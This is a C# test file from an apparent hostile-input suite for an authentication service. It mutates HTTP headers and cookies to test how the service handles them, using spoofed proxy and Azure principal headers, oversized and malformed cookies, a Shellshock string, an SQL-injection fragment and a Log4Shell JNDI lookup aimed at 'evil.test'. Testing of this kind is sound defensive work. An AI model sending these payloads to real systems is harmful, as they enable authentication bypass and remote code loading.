namespace AuthFunctions.Tests.Hostile;

/// <summary>Headers that say what only a proxy may, that are too many, too long, or of no sense.</summary>
internal sealed class HeaderAttack : Attack
{
    private static readonly (string Name, string[] Values)[] Known =
    [
        // OWASP WSTG-CONF-06, and what proxies and frameworks believe: overrides of method, URL, host and caller.
        ("X-HTTP-Method-Override", ["DELETE", "PUT"]),
        ("X-Original-URL", ["/manage/users", "/health"]),
        ("X-Rewrite-URL", ["/manage/users"]),
        ("X-Forwarded-Host", ["evil.test", "auth.fabrikam.localhost:7071"]),
        ("X-Forwarded-Proto", ["https", "javascript"]),
        ("X-Forwarded-For", ["127.0.0.1", "' or 1=1"]),
        ("Forwarded", ["for=127.0.0.1;host=evil.test;proto=https"]),
        ("CLIENT-IP", ["127.0.0.1:1", "[::1]", "999.1.1.1"]),
        ("X-MS-CLIENT-PRINCIPAL", ["eyJhdXRoX3R5cCI6ImFhZCJ9"]),
        ("X-MS-CLIENT-PRINCIPAL-ID", ["admin"]),
        ("x-functions-key", ["master"]),
        ("X-ARR-SSL", ["1"]),

        // Who asks, from where (Fetch Metadata; RFC 6454 §7.1).
        ("Origin", ["null", "http://evil.test", "http://app.contoso.localhost:5173.evil.test", "http://app.contoso.localhost",
            "HTTP://APP.CONTOSO.LOCALHOST:5173", "", "*"]),
        ("Referer", ["http://evil.test/", "javascript:alert(1)"]),
        ("Sec-Fetch-Site", ["cross-site", "none", "x"]),
        ("Sec-Fetch-Mode", ["no-cors", "navigate", "websocket"]),
        ("Sec-Fetch-User", ["?0", "?1, ?1"]),

        // Negotiation and conditions (RFC 9110 §12, §13, §14, §10.1.1).
        ("Accept", ["*/*;q=9", "text/html;level=\"", "application/problem+json;q=0"]),
        ("Accept-Language", ["de;q=abc, *;q=2, \"", "de;q=0", "*", "de-DE-1996-x-a-b-c,fr;q=0.0001", ",,,,;;;;"]),
        ("Accept-Encoding", ["gzip;q=0, *;q=0", "br"]),
        ("If-None-Match", ["*", "W/\"x", "\"a\",\"b\",", "\"\""]),
        ("If-Match", ["*"]),
        ("If-Modified-Since", ["Thu, 99 Foo 2020 00:00:00 GMT"]),
        ("Range", ["bytes=0-0,0-0,0-0", "bytes=-1", "bytes=18446744073709551615-"]),
        ("Expect", ["100-continue", "200-ok"]),
        ("TE", ["trailers, deflate;q=0.5"]),
        ("Upgrade", ["websocket", "h2c"]),
        ("Max-Forwards", ["-1"]),
        ("Purpose", ["prefetch"]),

        // Credentials of other kinds (RFC 7235 §2).
        ("Authorization", ["", "Bearer", "Bearer ", "Basic", "Basic !!!", "Basic Og==",
            "Basic ZGVtby13ZWI6JWZmOiV6eg==", "Negotiate x", "Bearer a Bearer b", "DPoP x", "Digest username=\"x\""]),
        ("DPoP", ["", "x", "a.b.c", "e30.e30.AA"]),
        ("User-Agent", ["() { :;}; echo x", "\u0000", "${jndi:ldap://evil.test}"]),
    ];

    public override void Spoil(Draft draft)
    {
        switch (draft.Random.Next(10))
        {
            case 0:
                draft.Headers.AddRange(Enumerable.Range(0, draft.Random.Next(50, 300)).Select(i => ($"X-H{i}", "x")));
                break;

            case 1:
                draft.Set("X-Long", new string('h', draft.Random.Next(5_000, 40_000)));
                break;

            case 2:
                var (name, value) = draft.Pick(Known);
                draft.Headers.Add((name, value[0]));
                draft.Headers.Add((name, draft.Pick(value)));
                break;

            case 3:
                draft.Set(draft.Pick(Known).Name, draft.Pick(Texts.Odd));
                break;

            case 4:
                draft.Headers.Add((draft.Pick(["", " ", "X Y", "X\u00e9", "X(", "X\"", "X:"]), "x"));
                break;

            default:
                var (known, values) = draft.Pick(Known);
                draft.Set(known, draft.Pick(values));
                break;
        }
    }
}

/// <summary>Cookies: huge, hundreds, twice, one inside another, malformed, quoted (RFC 6265 §4.1.1, §5.4, §8.6).</summary>
internal sealed class CookieAttack : Attack
{
    private static readonly string[] Ours =
        ["__Host-sid", "__Secure-at", "__Host-at", "__Host-rt", "__Host-csrf",
        "__Host-device", "__Host-lang", "__Secure-check", "__Host-handoff-47DEQpj8"];

    public override void Spoil(Draft draft)
    {
        var cookies = draft.Cookies;
        switch (draft.Random.Next(8))
        {
            case 0:
                cookies.Add(new("big", new string('c', draft.Random.Next(3000, 40_000))));
                break;

            case 1:
                cookies.AddRange(Enumerable.Range(0, draft.Random.Next(200, 800)).Select(i => new Field($"c{i}", "\"" + i)));
                break;

            case 2 when cookies.Count > 0:
                cookies.Add(draft.Pick(cookies));
                break;

            case 3 when cookies.Count > 0:
                cookies.Insert(0, draft.Pick(cookies) with { Value = "x" });
                break;

            case 4:
                cookies.Add(new(draft.Pick(["a", "", "$Version"]), $"\"x; {draft.Pick(Ours)}=sid_AAAA\""));
                break;

            case 5 when cookies.Count > 0:
                var at = draft.Random.Next(cookies.Count);
                var value = cookies[at].Text;
                cookies[at] = cookies[at] with
                {
                    Value = draft.Pick([value + value, value.ToUpperInvariant(), $"\"{value}\"", value[..(value.Length / 2)], " " + value]),
                };
                break;

            case 6:
                cookies.AddRange(Enumerable.Range(0, 60).Select(i => new Field($"__Host-handoff-{i:D8}", "CfDJ8" + new string('A', 100))));
                break;

            default:
                var name = draft.Pick(Ours);
                cookies.RemoveAll(c => c.Name == name);
                cookies.Add(new(name, draft.Pick(Texts.Odd)));
                break;
        }
    }
}
